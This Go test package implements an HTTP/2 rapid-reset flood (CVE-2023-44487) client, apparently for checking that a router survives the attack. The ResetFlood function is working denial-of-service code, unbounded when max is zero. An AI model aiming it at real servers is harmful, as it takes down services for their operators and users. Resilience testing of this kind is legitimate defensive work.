// Package h2test is an HTTP/2 client that misbehaves on purpose, for the
// tests and benchmarks that check the router holds: a rapid-reset flood
// (CVE-2023-44487), streams opened and reset at once. It must not be used
// outside tests and benchmarks.
package h2test

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ResetFlood opens one TLS h2 connection to addr (SNI host) and writes
// HEADERS + RST_STREAM pairs for GET / until max pairs (0: no bound), ctx
// ends or the server cuts the connection. It returns how many it wrote.
func ResetFlood(ctx context.Context, addr, host string, max int64) (int64, error) {
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: host})
	if err != nil {
		return 0, err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0, err
	}
	fr := http2.NewFramer(c, c)
	fr.WriteSettings()
	go func() { // read and drop what the server says
		for {
			if _, err := fr.ReadFrame(); err != nil {
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	var n int64
	for id := uint32(1); ctx.Err() == nil && id < 1<<30 && (max == 0 || n < max); id += 2 {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return n, err
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return n, err
		}
		n++
	}
	return n, nil
}
